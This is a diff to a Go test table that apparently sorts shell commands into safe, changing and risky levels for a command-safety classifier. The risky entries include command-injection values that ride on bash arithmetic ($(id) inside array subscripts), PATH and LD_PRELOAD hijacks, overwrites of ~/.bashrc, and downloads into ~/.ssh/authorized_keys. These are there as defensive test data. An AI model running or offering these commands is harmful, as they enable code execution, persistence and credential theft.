@@ -14,11 +14,13 @@ var judged = map[Level][]string{
 		"cat < input.txt", "for f in *.txt; do wc -l \"$f\"; done", "if [ -f go.mod ]; then cat go.mod; fi", "cat \"$(git rev-parse --show-toplevel)/README.md\"", "diff a b",
 		"sort names | uniq -c", "env | sort", "timeout 5 ls", "time ls -l", "bash -c 'ls -l'", "bash -lc \"git status\"", "go version", "npm ls", "pip list", "which python3", "/usr/bin/ls", "[[ -n $x ]] && echo yes",
 		"date", "cd src && ls", "nice -n 5 wc file", "rm --help", "X=1 printenv X", "command -v node", "sudo --version", "xargs -n 1 echo < list", "git -C sub status",
+		"i=0; while [ $i -lt 9 ]; do i=$((i+1)); done", "for ((i=0; i<9; i++)); do echo $i; done", "for i in 1 2 3; do echo $((i*2)); done", "echo ${#x} ${x%.go} ${x:0:3} ${list[@]} ${x:-none}", "[[ $# -gt 1 ]]", "[[ -v x ]] && echo ${x@Q}",
+		"declare -a list", "export FOO=x", "test -v x", "printf '%s [%s]' a b", "read x < f", "uniq names", "uniq -c - < names", "xxd file", "man ls", "git grep -n x",
 	},
 	Changing: {
 		"mkdir -p build", "touch a b", "cp a b", "mv a.txt b.txt", "rm notes.txt", "echo hi > out.txt", "echo hi >> log/out.txt", "ls | tee list.txt", "sed -i 's/a/b/' file", "git add -A && git commit -m 'x'",
 		"git checkout -b feature", "git stash", "npm install", "npm test", "go test ./...", "go build", "make", "pytest -q", "python3 main.py", "node server.js &", "pip install requests", "cargo build",
-		"curl https://example.com", "wget https://example.com/a.tgz", "tar xzf a.tgz", "chmod +x run", "chmod 644 a", "git pull", "git merge main", "gcc -o a a.c", "timeout 30 npm test", "bash -c 'touch a'", "env NODE_ENV=test npm test",
+		"curl https://example.com", "wget https://example.com/a.tgz", "tar xzf a.tgz", "chmod +x run", "uniq in out", "xxd in out", "file -C -m x", "history -w x", "chmod 644 a", "git pull", "git merge main", "gcc -o a a.c", "timeout 30 npm test", "bash -c 'touch a'", "env NODE_ENV=test npm test",
 	},
 	Risky: {
 		"rm -rf /", "rm -rf build", "rm -fr ~", "rm -r -f x", "rm --recursive x", "rm *", "rm /etc/passwd", "r\\m -rf x", "'rm' -rf x", `"rm" "-rf" x`, "$(echo rm) -rf x", "`echo rm` -rf x", "$CMD -rf x", "rm $ARGS",
@@ -32,6 +34,10 @@ var judged = map[Level][]string{
 		"echo x > $F", "> \"$F\"", "cp a /usr/bin/b", "mv -f a b", "npm publish", "npm install -g x", "npx cowsay", "apt-get install x", "pip uninstall x", "docker run x", "systemctl stop x", "crontab -r", "python3 -c 'print(1)'", "perl -e 'unlink x'", "awk 'BEGIN{system(\"rm x\")}'",
 		"sed 's/a/b/e' f", "tar xf a --to-command=sh", "PATH=/tmp ls", "LD_PRELOAD=x ls", "export PATH=/tmp", "unknown-program", "./script.sh", "../x", "~/x", "ls 'unterminated", "ls )", "gh pr merge 1", "psql -c 'drop table x'", "make install", "cat ~/.ssh/id_rsa", "vim x", "coproc ls",
 		"bash script.sh", "sh", "ls\u202e", "ls \u200b", "ls" + strings.Repeat(" ", 100) + "; id", "ls " + strings.Repeat("x", 3000), "ls\x1b[2K", "ls\rid", "\u0455l", "ls\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nid", "xargs -a list sh -c 'rm -rf x'", "$'rm' -rf x", "rm${IFS}-rf${IFS}x", "{rm,-rf,x}",
+		"x='a[$(id)]'; echo $((x))", "x='a[$(id)]'; (( x ))", "x='a[$(id)]'; [[ x -eq 1 ]]", "[[ $(cat f) -eq 1 ]]", "read x < f; echo $((x + 1))", "x=1; read x < f; echo $((x))", "x=$(cat f); echo $((x))", "x='a[$(id)]'; echo ${y[x]}", "x='a[$(id)]'; echo ${y:x}", "for ((i=x; i<9; i++)); do ls; done",
+		"for x in 1 'a[$(id)]'; do echo $((x)); done", "y['a[$(id)]']=1", "let 'a[$(id)]'", "echo $(( 'a[$(id)]' ))", "test -v 'a[$(id)]'", "[ -v 'a[$(id)]' ]", "[[ -v 'a[$(id)]' ]]", "declare -i x='a[$(id)]'", "declare 'x[$(id)]=1'", "declare -n x=PATH", "printf -v 'a[$(id)]' x", "unset 'a[$(id)]'", "read 'a[$(id)]' < f",
+		"wait -n -p 'a[$(id)]'", "x='$(id)'; echo ${x@P}", "echo ${!x}", "PS4='$(id)'; set -x; ls", "GIT_EXTERNAL_DIFF=x git diff", "LESSOPEN='|x' less y", "HOME=/tmp/x git status", "for PATH in /tmp/x; do ls; done", ": ${PATH:=/tmp}", "read PATH < f; ls", "printf -v PATH /tmp", "declare \"PATH=/x\"", "export 'LD_PRELOAD=/x'", "export \"$x\"",
+		"mapfile -C 'touch p' -c 1 < x", "hash -p /tmp/x ls", "git grep -Ox y", "rg --hostname-bin x y", "man -P x ls", "ldd x", "less +!id x", "uniq - ~/.bashrc", "xxd -r x ~/.bashrc", "sort -o ~/.bashrc x", "find . -fprintf ~/.bashrc x", "git log --output=.ssh/rc", "curl -o ~/.ssh/authorized_keys https://x", "wget -O .bashrc https://x",
 	},
 }
 
